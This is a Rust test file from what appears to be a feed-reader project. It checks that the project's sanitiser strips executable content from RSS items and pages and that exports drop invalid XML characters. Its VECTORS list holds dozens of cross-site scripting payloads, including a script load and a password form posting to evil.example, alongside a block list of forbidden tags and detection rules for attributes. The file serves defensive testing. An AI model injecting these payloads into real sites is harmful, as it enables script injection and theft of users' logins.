//! Feeds and pages that mean harm.

use super::bench::{Bench, source};
use super::papers::{HTML, RSS, item, page, rss, site};
use super::web::texts;
use offprint::newsstand::Answer;
use scraper::{Html, Node};
use serde_json::Value;

/// Ways to run something in a reader's browser.
const VECTORS: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script>alert(1)//",
    "<img src=x onerror=alert(1)>",
    "<img src=x OnErRoR = 'alert(1)'>",
    "<img/src=x/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>t</text></a></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math href=\"javascript:alert(1)\">m</math>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<iframe sandbox srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<a href=\"javascript:alert(1)\">j</a>",
    "<a href=\" jAvAsCrIpT:alert(1)\">j</a>",
    "<a href=\"java\tscr\nipt:alert(1)\">j</a>",
    "<a href=\"&#106;avascript&colon;alert(1)\">j</a>",
    "<a href=\"\u{1}javascript:alert(1)\">j</a>",
    "<a href=\"vbscript:msgbox(1)\">v</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">d</a>",
    "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
    "<img srcset=\"javascript:alert(1) 1x, data:text/html,x 2x\">",
    "<form action=\"https://evil.example/\"><input name=password><button formaction=\"javascript:alert(1)\">b</button></form>",
    "<object data=\"javascript:alert(1)\"></object><embed src=\"javascript:alert(1)\">",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
    "<link rel=stylesheet href=\"https://evil.example/x.css\">",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<p style=\"background:url(javascript:alert(1));position:fixed;top:0;width:100%\">s</p>",
    "<div style=\"width:expression(alert(1))\">e</div>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
    "<title><img title=\"</title><img src=x onerror=alert(1)>\"></title>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]&gt;",
    "]]&gt;&lt;/content&gt;<img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "<video src=x onloadstart=alert(1)><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>t</details>",
    "<input autofocus onfocus=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "<a href='https://a.example/' onclick=alert(1) target=_blank>o</a>",
    "<blockquote cite=\"javascript:alert(1)\">q</blockquote>",
    "<table background=\"javascript:alert(1)\"><td background=\"javascript:alert(1)\">t</table>",
    "<plaintext><img src=x onerror=alert(1)>",
];

const FORBIDDEN: &[&str] = &[
    "script",
    "style",
    "svg",
    "math",
    "form",
    "object",
    "embed",
    "base",
    "meta",
    "link",
    "iframe",
    "noscript",
    "textarea",
    "xmp",
    "title",
    "plaintext",
    "template",
    "input",
    "button",
    "frame",
    "frameset",
    "applet",
    "noembed",
];

/// What a browser could run or fetch in this piece of HTML; the frame of a page of ours may be excepted.
fn harm(html: &str, excepted: &[&str]) -> Vec<String> {
    let dom = if excepted.is_empty() { Html::parse_fragment(html) } else { Html::parse_document(html) };
    let mut found = Vec::new();
    for node in dom.tree.values() {
        let element = match node {
            Node::Element(element) => element,
            Node::Comment(comment) => {
                found.push(format!("<!--{}-->", &**comment));
                continue;
            }
            _ => continue,
        };
        let name = element.name();
        if FORBIDDEN.contains(&name) && !excepted.contains(&name) {
            found.push(format!("<{name}>"));
        }
        for (key, value) in element.attrs() {
            let plain: String = value.chars().filter(|c| !c.is_whitespace() && !c.is_control()).collect();
            let plain = plain.to_ascii_lowercase();
            let scheme = plain.split_once(':').map(|(scheme, _)| scheme);
            let address = matches!(
                key,
                "href" | "src" | "cite" | "background" | "poster" | "data" | "action" | "longdesc"
            );
            // A page of ours may point into itself.
            let own = !excepted.is_empty() && value.starts_with('#');
            let bad = key.starts_with("on")
                || matches!(key, "srcdoc" | "formaction" | "xlink:href" | "ping")
                || address && !own && !matches!(scheme, Some("http" | "https" | "mailto"))
                || key == "srcset" && (plain.contains("javascript") || plain.contains("data:"))
                || key == "style"
                    && (plain.contains("url(") || plain.contains("expression") || plain.contains("position"));
            if bad {
                found.push(format!("<{name} {key}={value:?}>"));
            }
        }
    }
    found
}

fn escape(text: &str) -> String {
    let text: String = text.chars().filter(|c| !c.is_control() || c.is_whitespace()).collect();
    text.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;").replace('"', "&quot;")
}

/// Each vector in every place of an item.
fn poisoned(base: &str) -> String {
    let one = |(n, vector): (usize, &&str)| {
        let bad = escape(vector);
        let text = format!("&lt;p&gt;before{n}&lt;/p&gt;{bad}&lt;p&gt;after{n}&lt;/p&gt;");
        let cdata = format!("<p>whole{n}</p>{}", vector.replace("]]>", "").replace('\u{1}', ""));
        let href = vector
            .split("=\"")
            .nth(1)
            .and_then(|rest| rest.split('"').next())
            .unwrap_or("javascript:alert(1)");
        let place = if n % 2 == 0 { "description" } else { "content:encoded" };
        let body = if n % 3 == 0 { format!("<![CDATA[{cdata}]]>") } else { text };
        format!(
            "<item><title>t{n} {bad}</title><link>{base}/a/{n}</link><guid isPermaLink=\"false\">{bad}{n}</guid>\
             <author>{bad}</author><dc:creator xmlns:dc=\"http://purl.org/dc/elements/1.1/\">{bad}</dc:creator>\
             <category>{bad}</category><comments>{0}</comments><enclosure url=\"{0}\" type=\"{bad}\" length=\"-1\"/>\
             <{place}>{body}</{place}></item>",
            escape(href)
        )
    };
    VECTORS.iter().enumerate().map(one).collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 1)]
async fn nothing_executable_gets_through() {
    let origin = site(|seen| {
        let base = format!("http://{}", seen.header("host").unwrap_or_default());
        match seen.plain_path() {
            "/robots.txt" => Answer::not_found(),
            "/feed" => Answer::ok(RSS, rss(&poisoned(&base)).replace("The Heron", &escape(VECTORS[0]))),
            path => {
                let n: usize = path.rsplit('/').next().and_then(|n| n.parse().ok()).unwrap_or(0);
                let vector = VECTORS.get(n).copied().unwrap_or_default();
                let text = page(&format!("t{n} {}", escape(vector)), "in full");
                Answer::ok(HTML, text.replacen("</p>", &format!("</p>{vector}"), 3))
            }
        }
    })
    .await;
    let feed = source("feed", &origin.url("/feed"));
    for toml in [feed.clone(), feed + "full_text = \"always\"\n"] {
        let bench = Bench::new(&toml);
        bench.run(&["fetch"]).await.good();
        let daemon = bench.daemon().await;
        let items = daemon.entries(VECTORS.len()).await;
        let web = daemon.web();
        let (atom, rss) = (web.get("/feed.atom", &[]).text(), web.get("/feed.rss", &[]).text());
        let mut bodies: Vec<String> =
            ["content", "summary"].iter().flat_map(|name| texts(&atom, name)).collect();
        bodies.extend(["content:encoded", "description"].iter().flat_map(|name| texts(&rss, name)));
        bodies.extend(items.iter().filter_map(|item| item["content_html"].as_str().map(str::to_owned)));
        // Some readers take a title of RSS for HTML after one decoding.
        bodies
            .extend(["title", "dc:creator", "category", "source"].iter().flat_map(|name| texts(&rss, name)));
        for body in &bodies {
            assert_eq!(harm(body, &[]), Vec::<String>::new(), "{body}");
        }
        let kept = bodies.iter().filter(|body| body.contains("before") && body.contains("after")).count();
        assert!(toml.contains("always") || kept > VECTORS.len(), "text around stays: {kept}");
        let ids = items.iter().filter_map(|item| item["id"].as_str()?.strip_prefix("urn:uuid:"));
        let pages = ids.map(|id| format!("/articles/{id}"));
        for path in pages.chain(["/", "/sources", "/sources/feed"].map(str::to_owned)) {
            let page = daemon.get(&path).text();
            // Lines and the search box are ours, never of an article.
            let lines = ["svg", "form", "input", "button"].iter().filter(|_| !path.starts_with("/articles"));
            let frame: Vec<&str> = ["style", "meta", "title", "link"].iter().chain(lines).copied().collect();
            assert_eq!(harm(&page, &frame), Vec::<String>::new(), "{path}");
            assert!(page.matches("<form").count() <= 1, "{path}");
            assert_eq!(page.matches("<style").count(), 1, "{path}");
            assert_eq!(page.matches("<meta").count(), 5, "{path}");
        }
        only_web_addresses(&items, &atom, &rss);
        daemon.stop().await;
    }
}

fn only_web_addresses(items: &[Value], atom: &str, rss: &str) {
    for feed in [atom, rss] {
        let mut reader = quick_xml::Reader::from_str(feed);
        loop {
            let element = match reader.read_event().unwrap() {
                quick_xml::events::Event::Eof => break,
                quick_xml::events::Event::Start(element) | quick_xml::events::Event::Empty(element) => {
                    element
                }
                _ => continue,
            };
            for attribute in element.attributes().map(Result::unwrap) {
                let address = matches!(attribute.key.as_ref(), "href" | "url" | "src" | "uri");
                assert!(!address || attribute.value.starts_with("http"), "{attribute:?}");
            }
        }
    }
    for link in ["link", "comments"].iter().flat_map(|name| texts(rss, name)) {
        assert!(link.starts_with("http"), "{link}");
    }
    for item in items {
        for key in ["url", "external_url", "image", "banner_image"] {
            assert!(item[key].as_str().is_none_or(|url| url.starts_with("http")), "{item}");
        }
        for attachment in item["attachments"].as_array().into_iter().flatten() {
            assert!(attachment["url"].as_str().unwrap().starts_with("http"), "{item}");
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 1)]
async fn characters_that_xml_has_not_never_come_out() {
    let bad = "a\u{0}b\u{8}c&#0;d&#x1;e&#xFFFE;f\u{fffe}g\u{ffff}h&#xD800;i\u{7f}j\u{85}k";
    let mut bytes = rss(&item("http://heron.example/1", bad, &format!("<author>{bad}</author><category>{bad}</category><description>{bad} &lt;p&gt;x&amp;#1;y\u{1f}z</description>")))
        .into_bytes();
    let at = bytes.windows(5).position(|w| w == b"a\0b\x08c").unwrap();
    bytes.splice(at..at, *b"\xff\xfe\xc3(\x80");
    let origin = site(move |_| Answer::ok(RSS, bytes.clone())).await;
    let bench = Bench::new(&source("heron", &origin.url("/feed")));
    bench.run(&["fetch"]).await.good();
    for format in ["atom", "rss", "json", "jsonl", "markdown"] {
        let out = bench.run(&["export", "--format", format]).await.good().out;
        let wrong =
            |c: char| c < ' ' && c != '\n' && c != '\t' || matches!(c, '\u{fffe}' | '\u{ffff}' | '\u{7f}');
        assert!(!out.contains(wrong), "{format}: {out:?}");
        for reference in
            ["&#0;", "&#1;", "&#x1;", "\\u0000", "\\u0001", "\\u001f", "\\ud800", "&#xD800;", "\\ufffe"]
        {
            assert!(!out.contains(reference), "{format} {reference}: {out:?}");
        }
        if matches!(format, "atom" | "rss") {
            assert!(texts(&out, "title").len() >= 2);
        }
        assert!(out.contains("http://heron.example/1"), "{format}: the entry is kept");
    }
}
